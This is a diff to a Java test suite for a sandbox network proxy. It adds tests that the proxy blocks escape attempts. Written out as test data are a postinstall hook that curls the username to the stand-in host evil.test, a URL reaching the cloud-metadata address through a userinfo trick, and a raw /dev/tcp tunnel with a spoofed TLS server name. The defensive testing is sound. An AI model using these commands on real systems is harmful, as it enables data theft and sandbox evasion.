@@ -7,11 +7,17 @@ import java.io.IOException;
 import java.io.UncheckedIOException;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
+import java.nio.ByteBuffer;
 import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.util.Arrays;
+import java.util.Base64;
 import java.util.List;
 import java.util.Queue;
 import java.util.Set;
 import java.util.concurrent.ConcurrentLinkedQueue;
+import javax.net.ssl.SNIHostName;
+import javax.net.ssl.SSLContext;
 import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.Test;
 
@@ -54,14 +60,13 @@ class ProxyAttacksTest extends SandboxTestBed {
   @Override
   SandboxSettings settings(SandboxSettings standard) {
     return standard.with(
-        ProxySettings.standard()
-            .withPorts(Set.of(port))
-            .withInternalHosts(Set.of("localhost"))
-            .reportingTo(requests::add));
+        ProxySettings.standard().withPorts(Set.of(port)).withInternalHosts(Set.of("localhost")));
   }
 
   private String with(List<String> hosts, String script) {
-    return run(Command.script(workTree, script).with(new Network.Allowed(hosts))).written().text();
+    return run(Command.script(workTree, script).with(new Network.Allowed(hosts, requests::add)))
+        .written()
+        .text();
   }
 
   private String curl(String options) {
@@ -73,7 +78,7 @@ class ProxyAttacksTest extends SandboxTestBed {
     var url = "http://localhost:" + port + "/path?query";
     assertThat(with(List.of("localhost"), curl("-d body " + url))).isEqualTo("hello\n");
     assertThat(served).containsExactly("/path?query localhost:" + port + " body");
-    assertThat(requests).containsExactly(new NetworkRequest(workTree, "localhost:" + port, ""));
+    assertThat(requests).containsExactly(new NetworkRequest("localhost:" + port, ""));
   }
 
   @Test
@@ -147,5 +152,102 @@ class ProxyAttacksTest extends SandboxTestBed {
     assertThat(outcome)
         .isInstanceOfSatisfying(
             Outcome.Exited.class, exited -> assertThat(exited.code()).isEqualTo(7));
+  }
+
+  @Test
+  void net05_aNameWithAUserInItIsNoName() {
+    var url = "http://localhost@169.254.169.254:" + port + "/";
+    assertThat(with(List.of("localhost"), curl("-i " + url)))
+        .contains("400")
+        .contains("X-Proxy-Error");
+    assertThat(served).isEmpty();
+  }
+
+  @Test
+  void net12_withoutTheProxysVariablesNothingIsReached() {
+    var script = "unset http_proxy HTTP_PROXY; " + curl("http://localhost:" + port + "/");
+    assertThat(with(List.of("localhost"), script)).contains("curl: (7)");
+    assertThat(served).isEmpty();
+  }
+
+  @Test
+  void net13_whatAnInstallScriptSendsGoesThroughTheProxyAndIsTold() throws IOException {
+    Files.writeString(
+        workTree.resolve("package.json"),
+        """
+        {"name": "x", "version": "1.0.0", "scripts": {"postinstall":
+         "curl -sS http://evil.test/$(id -un); curl -sS http://localhost:PORT/home"}}
+        """
+            .replace("PORT", Integer.toString(port)));
+    ownership.give(workTree);
+    var written = with(List.of("localhost"), "npm install --offline --foreground-scripts 2>&1");
+    assertThat(written).contains("evil.test is not on the list of allowed hosts");
+    assertThat(requests)
+        .contains(new NetworkRequest("evil.test", "evil.test is not on the list of allowed hosts"))
+        .hasSize(1);
+    assertThat(served).isEmpty();
+  }
+
+  @Test
+  void net14_withoutAProxyNothingRuns() {
+    var deep = directory.resolve("a-name-so-long-that-no-socket-fits-below-it".repeat(4));
+    try (var broken = Bubblewrap.open(settings(SandboxSettings.in(deep)))) {
+      var command = Command.script(workTree, "touch ran");
+      assertThat(
+              broken.run(
+                  command.with(new Network.Allowed(List.of("localhost"))), OutputListener.SILENT))
+          .isInstanceOf(Outcome.Unavailable.class);
+      assertThat(workTree.resolve("ran")).doesNotExist();
+      assertThat(broken.run(command, OutputListener.SILENT).succeeded()).isTrue();
+    }
+  }
+
+  @Test
+  void aRequestThatCannotBeToldIsNotLetThrough() {
+    var command =
+        Command.script(workTree, curl("http://localhost:" + port + "/"))
+            .with(
+                new Network.Allowed(
+                    List.of("localhost"),
+                    _ -> {
+                      throw new IllegalStateException("no record");
+                    }));
+    assertThat(run(command).written().text()).doesNotContain("hello");
+    assertThat(served).isEmpty();
+  }
+
+  /// What a TLS client says first.
+  private static String greeting(String server) throws Exception {
+    var engine = SSLContext.getDefault().createSSLEngine(server, 443);
+    engine.setUseClientMode(true);
+    var parameters = engine.getSSLParameters();
+    parameters.setServerNames(List.of(new SNIHostName(server)));
+    engine.setSSLParameters(parameters);
+    var bytes = ByteBuffer.allocate(32 * 1024);
+    engine.wrap(ByteBuffer.allocate(0), bytes);
+    return Base64.getEncoder().encodeToString(Arrays.copyOf(bytes.array(), bytes.position()));
+  }
+
+  private void greet(String server) throws Exception {
+    var script =
+        "exec 3<>/dev/tcp/127.0.0.1/${http_proxy##*:}; "
+            + "printf 'CONNECT localhost:%d HTTP/1.1\\r\\n\\r\\n' >&3; read -r answer <&3; "
+            + "echo %s | base64 -d >&3; timeout 5 cat <&3";
+    with(List.of("localhost"), script.formatted(port, greeting(server)));
+  }
+
+  @Test
+  void net10_aTunnelLeadsToNoOtherServerThanTheOneAskedFor() throws Exception {
+    greet("evil.test");
+    var tunnel = new NetworkRequest("localhost:" + port, "");
+    assertThat(requests)
+        .containsExactly(
+            tunnel,
+            new NetworkRequest(
+                "evil.test", "A tunnel to localhost:%d was used to ask for it".formatted(port)));
+    requests.clear();
+    greet("localhost");
+    assertThat(requests).containsExactly(tunnel);
+    assertThat(served).isEmpty();
   }
 }
